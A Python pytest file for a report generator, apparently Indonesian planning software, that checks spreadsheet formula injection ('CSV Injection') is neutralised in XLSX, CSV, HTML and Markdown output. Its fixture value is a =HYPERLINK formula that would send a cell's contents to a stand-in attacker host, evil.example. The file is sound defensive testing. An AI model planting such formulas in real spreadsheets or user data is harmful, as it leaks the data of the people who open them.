"""Report cells a spreadsheet would read as a formula (text starting with =, +, -, @, a tab or a
carriage return; OWASP "CSV Injection") stay text: stored as strings in the XLSX report (openpyxl
data type "s", never a formula), prefixed with ' in the CSV report; numbers, negative ones too,
stay numbers. HTML escapes every cell; Markdown escapes what would end a table cell or open raw
HTML."""

import csv
import io
import zipfile
from html.parser import HTMLParser

import openpyxl
import pytest

import kinerja
from kinerja.report import Report, Section

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"klik")'

# the reproduction: a node named =HYPERLINK(...), and more names a spreadsheet would run
PLAN = f"""
kinerja_plan: 1
plan:
  id: uji-injeksi
  title: Rencana Uji Injeksi
  organisation: Dinas Uji
  region: Kota Uji
  period: [2024, 2024]
  version: perubahan
nodes:
  - id: s-1
    level: sasaran
    name: '{HYPERLINK}'
    source: "Tabel 6.1"
    budget: {{2024: "250,000,000"}}
    indicators:
      - id: ind-s-1
        name: "@SUM(1+1)"
        kind: iku
        unit: Persen
        polarity: higher
        source: "Tabel 7.3"
        targets: {{2024: "95%"}}
  - id: p-1
    level: program
    code: "2.08.03"
    name: "+1+2"
    parent: s-1
    source: "Tabel 6.1"
    budget: {{2024: "250,000,000"}}
  - id: k-1
    level: kegiatan
    code: "2.08.03.2.01"
    name: "-2+3"
    parent: p-1
    source: "Tabel 6.1"
    budget: {{2024: "250,000,000"}}
"""

# one row of every kind of cell, by hand: text that starts a formula, text that does not, numbers
COLUMNS = ["c1", "c2", "c3", "c4", "c5", "c6", "c7", "c8", "c9", "c10", "c11", "c12", "c13"]
ROW = [HYPERLINK, "+1", "-5%", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", -5.0, -1234567.0, 3, "plain 5", "a\\|b",
       "<b>x</b>"]
FORMULA_LIKE = {0, 1, 2, 3, 4, 5, 6}


@pytest.fixture(scope="module")
def injected():
    return kinerja.build_report(kinerja.Plan.from_yaml(PLAN, "injeksi.yaml"))


@pytest.fixture(scope="module")
def by_hand():
    return Report("Uji", [Section("cells", "Every kind of cell", COLUMNS, [list(ROW)])])


def _xlsx(report):
    data = report.render("xlsx")
    return data, openpyxl.load_workbook(io.BytesIO(data))


# ------------------------------------------------------------------------------------------ XLSX

def test_xlsx_cells_that_start_a_formula_are_text_and_numbers_stay_numbers(by_hand):
    data, wb = _xlsx(by_hand)
    cells = list(wb["cells"].iter_rows(min_row=2))[0]  # the header in row 1
    assert [c.value for c in cells] == [HYPERLINK, "+1", "-5%", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", -5, -1234567, 3,
                                        "plain 5", "a\\|b", "<b>x</b>"]
    assert [c.data_type for c in cells] == ["s"] * 7 + ["n"] * 3 + ["s"] * 3
    # marked as text for Excel (what a typed leading ' sets), so an edit keeps it text; a signed
    # number as printed and a dash for "no value" can hold no formula and are not marked
    assert [c.quotePrefix for c in cells] == [True, False, False, True, True, True, False] + [False] * 6
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in z.read(n) and b"<f " not in z.read(n) for n in sheets)


def test_xlsx_of_a_plan_with_a_hyperlink_node_name_has_no_formula(injected):
    data, wb = _xlsx(injected)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                if c.value in (HYPERLINK, "@SUM(1+1)", "+1+2", "-2+3"):
                    found.setdefault(c.value, set()).add(ws.title)
                    assert c.data_type == "s" and c.quotePrefix
    # the names appear as they are, in the Tabel 6.1 and budget sheets (the indicator in 6.1 and achievement)
    assert found == {HYPERLINK: {"tabel-6.1", "budget"}, "+1+2": {"tabel-6.1", "budget"},
                     "-2+3": {"tabel-6.1", "budget"}, "@SUM(1+1)": {"tabel-6.1", "achievement"}}
    # the pagu stays a number: 250,000,000 in the budget sheet's row of the sasaran
    budget = wb["budget"]
    header = [c.value for c in budget[1]]
    row = next(r for r in budget.iter_rows(min_row=2) if r[header.index("name")].value == HYPERLINK)
    assert row[header.index("pagu")].value == 250000000 and row[header.index("pagu")].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        assert all(b"<f>" not in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


# ------------------------------------------------------------------------------------------- CSV

def _csv_rows(report):
    return list(csv.reader(io.StringIO(report.render("csv"), newline="")))


def test_csv_cells_that_start_a_formula_get_a_quote_and_numbers_stay_numbers(by_hand):
    rows = _csv_rows(by_hand)
    data = [r for r in rows if r and r[0] == "cells"]
    # a dash printed for "no value" and a signed number as printed ("+1", "-5%") can hold no
    # formula: they stay as printed, as a person reading the table expects
    assert data == [["cells", "'" + HYPERLINK, "+1", "-5%", "'@SUM(A1)", "'\t=1+1", "'\r=1+1", "-", "-5.0",
                     "-1234567.0", "3", "plain 5", "a\\|b", "<b>x</b>"]]


def test_csv_of_a_plan_with_a_hyperlink_node_name_escapes_it(injected):
    rows = _csv_rows(injected)
    section_6_1 = [r for r in rows if r and r[0] == "tabel-6.1"]
    header = ["section"] + injected.section("tabel-6.1").columns
    names = {r[header.index("name")] for r in section_6_1} - {""}
    assert names == {"'" + HYPERLINK, "'+1+2", "'-2+3"}
    assert {r[header.index("indicator")] for r in section_6_1} - {""} == {"'@SUM(1+1)"}
    # no cell anywhere starts a formula: what starts like one is a dash for "no value" or a number
    starts = [c for r in rows for c in r if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(set(c) == {"-"} or c.lstrip("+-").replace(".", "").replace(",", "").isdigit() for c in starts), starts
    budget = [r for r in rows if r and r[0] == "budget"]
    bheader = ["section"] + injected.section("budget").columns
    assert {r[bheader.index("pagu")] for r in budget} == {"250000000.0"}


# ----------------------------------------------------------------------------- HTML and Markdown

class _Cells(HTMLParser):
    def __init__(self):
        super().__init__()
        self.cells, self.tags, self._in = [], [], False

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self._in = tag == "td"
        if self._in:
            self.cells.append("")

    def handle_endtag(self, tag):
        self._in = False if tag == "td" else self._in

    def handle_data(self, data):
        if self._in:
            self.cells[-1] += data


@pytest.mark.parametrize("inline", [False, True])
def test_html_escapes_every_cell(by_hand, inline):
    out = by_hand._repr_html_() if inline else by_hand.render("html")
    parser = _Cells()
    parser.feed(out)
    assert parser.cells == [HYPERLINK, "+1", "-5%", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "-5.00", "-1,234,567", "3",
                            "plain 5", "a\\|b", "<b>x</b>"]
    assert "b" not in parser.tags


def _gfm_cells(line):
    """The cells of a GitHub-flavoured Markdown table row: a backslash escapes the next character,
    an unescaped | ends a cell."""
    cells, cell, i = [], "", 0
    body = line.strip()
    assert body.startswith("|") and body.endswith("|")
    body = body[1:-1]
    while i < len(body):
        if body[i] == "\\" and i + 1 < len(body):
            cell += body[i:i + 2]
            i += 2
            continue
        if body[i] == "|":
            cells.append(cell.strip())
            cell = ""
        else:
            cell += body[i]
        i += 1
    cells.append(cell.strip())
    return cells


def test_markdown_cells_keep_their_column_and_open_no_html(by_hand):
    lines = by_hand.render("markdown").splitlines()
    row = next(line for line in lines if line.startswith("| =HYPERLINK"))
    cells = _gfm_cells(row)
    assert len(cells) == len(COLUMNS)
    # | and \ escaped, < escaped so that no tag opens, a carriage return as a space
    assert cells[11] == "a\\\\\\|b"
    assert cells[12] == "\\<b>x\\</b>"
    assert cells[5] == "=1+1"
    assert "\r" not in row


# ------------------------------------------------------------------------- what XLSX cannot hold

def test_xlsx_with_a_control_character_is_a_clear_error_not_a_crash():
    # XML 1.0, and so a workbook, cannot hold C0 control characters other than tab, LF and CR;
    # openpyxl raised its own IllegalCharacterError, which the command line printed as a traceback
    report = Report("Uji", [Section("cells", "Control", ["a", "b"], [["ok", -1.0], [-2.0, "a\x1b[31mRED"]])])
    with pytest.raises(kinerja.errors.ArgumentError) as info:
        report.render("xlsx")
    assert info.value.id == "kinerja.report.xlsx_text"
    assert str(info.value) == ("[kinerja.report.xlsx_text] sheet 'cells' cell B3: the text 'a\\x1b[31mRED' holds the "
                               "control character U+001B, which an XLSX workbook cannot hold; remove it from the plan")
